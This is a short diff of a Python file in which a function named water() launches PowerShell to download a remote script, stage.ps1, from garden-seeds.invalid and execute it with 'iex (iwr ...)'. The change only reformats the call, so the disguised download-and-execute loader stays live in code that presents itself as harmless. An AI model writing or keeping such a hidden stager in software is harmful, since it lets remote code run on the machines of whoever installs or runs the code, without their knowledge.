@@ -3,6 +3,4 @@ import subprocess
 
 
 def water():
-    subprocess.Popen(
-        ["powershell", "-NoProfile", "-Command", "iex (iwr 'https://garden-seeds.invalid/stage.ps1')"]
-    )
+    subprocess.Popen(["powershell", "-NoProfile", "-Command", "iex (iwr 'https://garden-seeds.invalid/stage.ps1')"])
